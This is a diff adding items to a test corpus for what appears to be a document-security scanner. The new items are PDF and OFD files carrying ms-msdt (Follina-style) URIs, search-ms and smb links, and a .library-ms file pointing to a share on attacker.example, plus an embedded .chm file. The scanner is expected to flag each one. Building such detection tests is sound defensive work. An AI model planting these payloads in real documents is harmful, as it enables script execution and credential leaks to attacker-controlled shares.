@@ -575,6 +575,16 @@ const linkPdfs: CorpusItem[] = [
     const body = (catalog as PdfObj).body.replace('>>', '/URI << /Base (file://attacker.example/share/) >> >>');
     return buildPdf([{ num: 1, body }, ...rest]);
   }),
+  // Handed to a program by its scheme: ms-msdt ran the link's own script (Follina).
+  linkItem('pdf-uri-ms-msdt', () =>
+    buildPdf(linkAnnotations('<< /S /URI /URI (ms-msdt:/id PCWDiagnostic /skip force /param "x") >>')),
+  ),
+  linkItem('pdf-uri-search-ms-share', () =>
+    buildPdf(linkAnnotations('<< /S /URI /URI (search-ms:query=x&crumb=location:\\\\attacker.example\\share) >>')),
+  ),
+  linkItem('pdf-uri-smb-share', () =>
+    buildPdf(linkAnnotations('<< /S /URI /URI (smb://attacker.example/share/x.pdf) >>')),
+  ),
   // An update redefines a web link as a share: every definition counts.
   linkItem('pdf-link-updated-to-unc', () =>
     incrementalUpdate(buildClassicPdf(linkAnnotations('<< /S /URI /URI (https://www.miit.gov.cn/) >>')), [
@@ -1813,6 +1823,28 @@ const ofdItems: CorpusItem[] = [
     expect: 'EMBEDDED_EXECUTABLE',
   },
   {
+    id: 'ofd-help-file',
+    category: 'OFD executable',
+    declared: 'ofd',
+    // A compiled help file runs its pages' scripts when opened.
+    bytes: () => ofdWith('', [{ name: 'Doc_0/Res/说明.chm', data: 'ITSF' }]),
+    expect: 'EMBEDDED_EXECUTABLE',
+  },
+  {
+    id: 'ofd-share-library',
+    category: 'OFD executable',
+    declared: 'ofd',
+    // Opened, a library description browses the share it names as a local folder.
+    bytes: () =>
+      ofdWith('', [
+        {
+          name: 'Doc_0/Res/资料.library-ms',
+          data: '<libraryDescription><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\attacker.example\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>',
+        },
+      ]),
+    expect: 'EMBEDDED_EXECUTABLE',
+  },
+  {
     id: 'ofd-open-uri',
     category: 'OFD action',
     declared: 'ofd',
@@ -2031,6 +2063,14 @@ const ofdItems: CorpusItem[] = [
     category: 'OFD action',
     declared: 'ofd',
     bytes: () => ofdAnnotationAction('CLICK', '<ofd:URI URI=" file:///C:/Windows/System32/calc.exe"/>'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-click-link-ms-msdt',
+    category: 'OFD action',
+    declared: 'ofd',
+    // Handed to a program by its scheme, which acts on the link itself.
+    bytes: () => ofdAction('CLICK', '<ofd:URI URI="ms-msdt:/id PCWDiagnostic /skip force"/>'),
     expect: 'OFD_ACTION',
   },
   {
